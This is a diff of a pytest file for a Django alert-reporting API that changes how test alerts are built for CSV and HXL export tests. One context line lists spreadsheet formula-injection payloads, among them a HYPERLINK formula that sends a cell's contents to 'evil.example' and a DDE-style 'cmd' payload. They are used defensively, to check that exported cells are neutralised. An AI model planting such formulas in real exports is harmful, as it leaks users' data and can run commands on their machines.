@@ -8,7 +8,8 @@ import pytest
 
 from monusco.models import Locality
 from tests.api.conftest import token_client
-from tests.factories.api import alert, meeting_with_details, mission, plan_with_details, review
+from tests.factories import make_alert
+from tests.factories.api import meeting_with_details, mission, plan_with_details, review
 
 pytestmark = pytest.mark.django_db
 
@@ -24,7 +25,8 @@ def _hxl(content: bytes):
 def test_csv_has_a_valid_hxl_row_under_the_header(resource, world, tokens, users):
     meeting = meeting_with_details(base=world.base)
     plan_with_details(base=world.base)
-    alert(base=world.base)
+    make_alert(world.base, locality=world.uvira, threat_category="looting", description="Shops looted at the market",
+               status="acknowledged", events=True, women=2, men=1, girls=1)
     mission(localities=[world.uvira, world.sange], bases=[world.base])
     review(report=meeting, reviewer=users["gender"], report_type="meeting")
     response = token_client(tokens.inside_key).get(f"/api/v1/{resource}/?format=csv&page_size=500")
@@ -144,7 +146,8 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', "@SUM(1+1)*cmd|'
 
 
 def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(world, tokens):
-    alerts = [alert(base=world.base, locality=world.sange, description=text) for text in FORMULAS]
+    alerts = [make_alert(world.base, locality=world.sange, threat_category="looting", description=text,
+                         status="acknowledged", events=True, women=2, men=1, girls=1) for text in FORMULAS]
     mission(localities=[world.uvira], bases=[world.base], title="=1+1")
     client = token_client(tokens.inside_key)
     content = client.get("/api/v1/alerts/?format=csv&ordering=created_at").content
